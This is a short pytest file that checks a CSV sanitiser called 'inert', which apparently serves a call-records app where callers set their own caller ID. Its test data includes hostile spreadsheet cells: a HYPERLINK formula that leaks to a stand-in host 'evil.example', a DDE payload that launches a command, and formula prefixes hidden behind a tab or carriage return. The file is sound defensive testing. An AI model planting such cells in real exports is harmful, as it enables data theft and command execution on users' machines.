"""CSV cells a spreadsheet cannot run: a caller chooses their own caller ID."""

from __future__ import annotations

import pytest

from app.records.query import inert


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?leak","Click me")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_be_a_formula_is_text(hostile: str) -> None:
    assert inert(hostile) == "'" + hostile


@pytest.mark.parametrize("plain", ["+8613800138000", "-12", "5551234", "3.5", "张三", "", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(plain: str) -> None:
    assert inert(plain) == plain
